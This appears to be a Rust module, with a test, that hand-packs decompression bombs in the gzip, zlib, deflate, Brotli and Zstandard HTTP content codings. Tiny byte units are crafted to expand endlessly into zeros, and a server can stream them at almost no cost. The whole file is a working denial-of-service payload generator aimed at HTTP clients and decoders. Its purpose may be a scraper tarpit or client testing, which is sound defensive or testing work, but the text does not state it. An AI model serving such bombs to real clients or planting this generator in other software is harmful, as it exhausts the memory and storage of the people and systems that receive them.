//! Zeros, packed by hand: a few bytes that become as many as one likes.
//!
//! Each coding has a beginning, and a unit that ends on a byte and can be sent again and again: so
//! a bomb of ten gigabytes costs the server nothing, and one without end is a step of a script.

use std::io::Write;
use std::sync::OnceLock;

use flate2::write::DeflateEncoder;
use flate2::{Compression, FlushCompress};

/// A coding with its own kind of bomb.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Bomb {
    /// One gzip member.
    Gzip,
    /// Many gzip members, each small and whole.
    GzipMembers,
    /// deflate in a zlib envelope.
    Zlib,
    /// deflate as it is.
    Deflate,
    /// Brotli.
    Br,
    /// Zstandard.
    Zstd,
}

impl Bomb {
    /// Its name in `Content-Encoding`.
    pub(super) fn coding(self) -> &'static str {
        match self {
            Bomb::Gzip | Bomb::GzipMembers => "gzip",
            Bomb::Zlib | Bomb::Deflate => "deflate",
            Bomb::Br => "br",
            Bomb::Zstd => "zstd",
        }
    }

    /// The bytes before the first unit.
    pub(super) fn beginning(self) -> Vec<u8> {
        let (first, _) = deflated();
        match self {
            Bomb::Gzip => [GZIP_HEAD, first].concat(),
            Bomb::GzipMembers => Vec::new(),
            Bomb::Zlib => [ZLIB_HEAD, first].concat(),
            Bomb::Deflate => first.clone(),
            Bomb::Br => brotli_beginning(),
            // A window of 1 MiB, no size told.
            Bomb::Zstd => vec![0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x50],
        }
    }

    /// Bytes that become [`Bomb::grows`] zeros, again and again.
    pub(super) fn unit(self) -> Vec<u8> {
        match self {
            Bomb::Gzip | Bomb::Zlib | Bomb::Deflate => deflated().1.clone(),
            Bomb::GzipMembers => member().clone(),
            Bomb::Br => brotli_unit(),
            // A run of 128 KiB, not the last block.
            Bomb::Zstd => [&((128u32 << 10) << 3 | 1 << 1).to_le_bytes()[..3], &[0]].concat(),
        }
    }

    /// How much a unit becomes.
    pub(super) fn grows(self) -> u64 {
        match self {
            Bomb::Br => 16 << 20,
            Bomb::Zstd => 128 << 10,
            _ => 1 << 20,
        }
    }

    /// A bomb of at least so many bytes, without its end.
    pub(super) fn of(self, bytes: u64) -> Vec<u8> {
        let mut out = self.beginning();
        let unit = self.unit();
        for _ in 0..bytes.div_ceil(self.grows()) {
            out.extend_from_slice(&unit);
        }
        out
    }
}

/// A mebibyte of zeros, and one that follows it: references reach into what came before, so the
/// first is not like the others.
fn deflated() -> &'static (Vec<u8>, Vec<u8>) {
    static UNITS: OnceLock<(Vec<u8>, Vec<u8>)> = OnceLock::new();
    UNITS.get_or_init(|| {
        let zeros = vec![0; 1 << 20];
        let mut packer = flate2::Compress::new(Compression::best(), false);
        let mut unit = || {
            let mut out = Vec::with_capacity(16 << 10);
            // Memory takes everything, so nothing is left over.
            let _ = packer.compress_vec(&zeros, &mut out, FlushCompress::Sync);
            out
        };
        (unit(), unit())
    })
}

fn member() -> &'static Vec<u8> {
    static MEMBER: OnceLock<Vec<u8>> = OnceLock::new();
    MEMBER.get_or_init(|| gzip(&vec![0; 1 << 20]))
}

/// Packed as gzip, whole.
pub(super) fn gzip(plain: &[u8]) -> Vec<u8> {
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), Compression::best());
    packer.write_all(plain).and_then(|()| packer.finish()).unwrap_or_default()
}

/// Packed as deflate in its envelope, whole.
pub(super) fn zlib(plain: &[u8]) -> Vec<u8> {
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), Compression::best());
    packer.write_all(plain).and_then(|()| packer.finish()).unwrap_or_default()
}

/// Packed as bare deflate, whole.
pub(super) fn deflate(plain: &[u8]) -> Vec<u8> {
    let mut packer = DeflateEncoder::new(Vec::new(), Compression::best());
    packer.write_all(plain).and_then(|()| packer.finish()).unwrap_or_default()
}

/// RFC 7932: a window of 64 KiB and sixteen stored zeros, so that there is something to copy from.
fn brotli_beginning() -> Vec<u8> {
    let mut bits = BitWriter::default();
    bits.put(0, 1);
    bits.put(0, 1); // not the last
    bits.put(0, 2); // four nibbles of length
    bits.put(15, 16);
    bits.put(1, 1); // stored
    let mut out = bits.bytes;
    out.extend_from_slice(&[0; 16]);
    out
}

/// One copy of 16 MiB, by codes that have one symbol each and so take no bits, then an empty
/// metablock up to the next byte.
fn brotli_unit() -> Vec<u8> {
    let mut bits = BitWriter::default();
    bits.put(0, 1); // not the last
    bits.put(2, 2); // six nibbles of length
    bits.put((16 << 20) - 1, 24);
    bits.put(0, 1); // not stored
    bits.put(0, 3); // one block type each for literals, commands, distances
    bits.put(0, 6); // no postfix, no direct distances
    bits.put(0, 2); // a context mode
    bits.put(0, 2); // one tree each for literals and distances
    bits.put(1, 2); // a simple code …
    bits.put(0, 2); // … of one symbol:
    bits.put(0, 8); // the literal zero
    bits.put(1, 2);
    bits.put(0, 2);
    bits.put(391, 10); // insert nothing, copy 2118 and what 24 bits say
    bits.put(1, 2);
    bits.put(0, 2);
    bits.put(0, 6); // from the last distance, which is 4 at first
    bits.put((16 << 20) - 2118, 24);
    bits.put(0, 1); // not the last
    bits.put(3, 2); // metadata
    bits.put(0, 3); // none
    bits.bytes
}

/// BitWriter, the lowest first.
#[derive(Default)]
struct BitWriter {
    bytes: Vec<u8>,
    used: u32,
}

impl BitWriter {
    fn put(&mut self, value: u32, bits: u32) {
        for bit in 0..bits {
            if self.used == 0 {
                self.bytes.push(0);
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= ((value >> bit & 1) as u8) << self.used;
            }
            self.used = (self.used + 1) % 8;
        }
    }
}

const GZIP_HEAD: &[u8] = &[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
const ZLIB_HEAD: &[u8] = &[0x78, 0x9c];

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    /// Reads until the end or the first error, and says how many zeros came.
    fn zeros(mut from: impl Read) -> u64 {
        let (mut buffer, mut all) = (vec![1; 1 << 16], 0);
        while let Ok(count @ 1..) = from.read(&mut buffer) {
            assert!(buffer[..count].iter().all(|&byte| byte == 0));
            all += count as u64;
        }
        all
    }

    #[test]
    fn bombs_burst_in_independent_decoders() {
        let most = 64 << 20;
        for bomb in [Bomb::Gzip, Bomb::GzipMembers, Bomb::Zlib, Bomb::Deflate, Bomb::Br, Bomb::Zstd]
        {
            let packed = bomb.of(most);
            let all = match bomb {
                Bomb::Gzip => zeros(flate2::read::GzDecoder::new(&packed[..])),
                Bomb::GzipMembers => zeros(flate2::read::MultiGzDecoder::new(&packed[..])),
                Bomb::Zlib => zeros(flate2::read::ZlibDecoder::new(&packed[..])),
                Bomb::Deflate => zeros(flate2::read::DeflateDecoder::new(&packed[..])),
                Bomb::Br => zeros(brotli_decompressor::Decompressor::new(&packed[..], 4096)),
                Bomb::Zstd => zeros(ruzstd::decoding::StreamingDecoder::new(&packed[..]).unwrap()),
            };
            // A decoder may keep a window back until it sees the end, and there is none.
            assert!(all >= most - (1 << 20), "{bomb:?}: {all}");
            assert!((packed.len() as u64) < most / 900, "{bomb:?}: {} bytes", packed.len());
        }
    }
}
